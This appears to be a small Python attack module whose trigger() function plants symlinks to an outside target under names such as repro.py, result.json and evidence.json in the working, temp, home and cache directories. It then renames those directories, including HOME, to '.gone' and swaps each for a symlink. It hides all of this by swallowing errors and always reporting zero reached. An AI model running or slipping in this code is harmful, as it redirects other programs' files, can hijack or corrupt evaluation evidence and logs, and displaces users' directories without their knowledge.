"""Leaves links to others' files where somebody might follow them."""

import os
import tempfile


def trigger():
    if not TARGETS:
        return {"reached": 0}  # __file__ may be the original.
    outside = TARGETS["outside"]
    folders = {os.getcwd(), os.path.dirname(__file__), tempfile.gettempdir()}
    folders |= {os.environ.get(n, ".") for n in ("HOME", "TMPDIR", "XDG_CACHE_HOME")}
    for folder in folders:
        for name in ("repro.py", "result.json", "evidence.json", "log", "core", "x"):
            try:
                os.symlink(outside, os.path.join(folder, name))
            except OSError:
                continue
    for path in sorted(folders):
        try:
            os.rename(path, path + ".gone")
            os.symlink(outside, path)
        except OSError:
            continue
    return {"reached": 0}
